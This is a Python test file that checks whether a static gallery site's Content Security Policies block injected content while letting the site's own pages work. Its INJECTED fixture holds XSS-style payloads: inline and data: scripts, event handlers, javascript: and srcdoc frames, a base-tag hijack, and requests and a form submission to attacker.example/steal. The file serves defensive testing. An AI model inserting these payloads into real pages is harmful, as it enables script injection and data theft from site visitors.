"""Tests the content security policies of a gallery's pages: they must block nothing that a page needs, and everything
that is injected.

Pages are read from disk and over HTTP. Then a script, event handlers, a frame with a document, a remote picture, a
remote stylesheet and a base address are injected into copies of them; none may run or be requested.
"""

import functools
import http.server
import pathlib
import re
import shutil
import tempfile
import threading

INJECTED = """
<base href="https://attacker.example/"/>
<script>window.ran = (window.ran || "") + " script"</script>
<script src="data:text/javascript,window.ran='data'"></script>
<img src="x" onerror="window.ran = (window.ran || '') + ' onerror'"/>
<svg onload="window.ran = (window.ran || '') + ' onload'"></svg>
<iframe srcdoc="&lt;script&gt;parent.ran = 'srcdoc'&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.ran='javascript'"></iframe>
<object data="data:text/html,&lt;script&gt;parent.ran='object'&lt;/script&gt;"></object>
<img src="https://attacker.example/pixel.png"/>
<link rel="stylesheet" href="https://attacker.example/a.css"/>
<style>body { background: url(https://attacker.example/b.png); --injected: yes }</style>
<form action="https://attacker.example/steal" id="injected-form"><input name="a" value="b"/></form>
"""


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_):
        pass


def sample(site, count):
    """Returns all pages by policy, and a sample of at most `count` pages for each policy, spread over the site."""
    kinds = {}
    for page in sorted(site.rglob("*.html")):
        text = page.read_text()
        found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"/>', text)
        kinds.setdefault(found.group(1) if found else None, []).append(page)
    chosen = []
    for pages in kinds.values():
        step = max(1, len(pages) // count)
        chosen += pages[::step][:count]
    return kinds, chosen


def check(browser, folder, site="_site"):
    site = pathlib.Path(site).resolve()
    if not site.is_dir():
        return "skipped: _site does not exist", []
    failures = []
    kinds, pages = sample(site, 6)
    if None in kinds:
        failures.append("%d pages have no policy, %s first" % (len(kinds[None]), kinds[None][0]))
    handler = functools.partial(Quiet, directory=str(site))
    copies = pathlib.Path(tempfile.mkdtemp())
    spoiled = copies / "site"
    shutil.copytree(site / "assets", spoiled / "assets")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(spoiled)))
    for one in (server, other):
        threading.Thread(target=one.serve_forever, daemon=True).start()
    context = browser.new_context()
    context.add_init_script(
        "window.blocked = []; document.addEventListener('securitypolicyviolation', "
        "e => window.blocked.push(e.violatedDirective + ' ' + e.blockedURI))")
    attempts = 0
    try:
        for path in pages:
            name = path.relative_to(site).as_posix()
            styles = {}
            for address in (path.as_uri(), "http://127.0.0.1:%d/%s" % (server.server_port, name)):
                page = context.new_page()
                page.goto(address)
                blocked = page.evaluate("window.blocked")
                if blocked:
                    failures.append("%s: its own policy blocks %s" % (address, blocked[:3]))
                styles[address[:4]] = page.evaluate(
                    "[...document.styleSheets].map(s => s.href ? s.href.split('/').pop() : '')")
                page.close()
            if len(set(map(str, styles.values()))) != 1 or not list(styles.values())[0]:
                failures.append("%s: stylesheets are not the same from disk and over HTTP: %s" % (name, styles))
            copy = spoiled / name
            copy.parent.mkdir(parents=True, exist_ok=True)
            copy.write_text(path.read_text().replace("</body>", INJECTED + "</body>"))
            for address in (copy.as_uri(), "http://127.0.0.1:%d/%s" % (other.server_port, name)):
                page = context.new_page()
                asked = []
                page.on("requestfinished", lambda request: asked.append(request.url))
                page.on("requestfailed", lambda request: asked.append(request.url) if request.failure != "csp" else None)
                page.goto(address)
                page.wait_for_timeout(50)
                page.evaluate("document.getElementById('injected-form').submit()")
                page.wait_for_timeout(50)
                attempts += 1
                ran = page.evaluate("window.ran || null")
                if ran:
                    failures.append("%s: ran %s" % (address, ran))
                remote = [url for url in asked if "attacker.example" in url]
                if remote or "attacker" in page.url:
                    failures.append("%s: asked for %s" % (address, remote or page.url))
                if page.evaluate("document.baseURI").startswith("https://attacker"):
                    failures.append("%s: the base address was taken" % address)
                if page.evaluate("getComputedStyle(document.body).getPropertyValue('--injected')"):
                    failures.append("%s: rules were applied" % address)
                page.close()
    finally:
        context.close()
        for one in (server, other):
            one.shutdown()
        shutil.rmtree(copies)
    summary = "%d policies on %d pages, %d pages tried from disk and over HTTP, %d spoiled copies run nothing" % (
        len(kinds), sum(map(len, kinds.values())), len(pages), attempts)
    return summary, failures
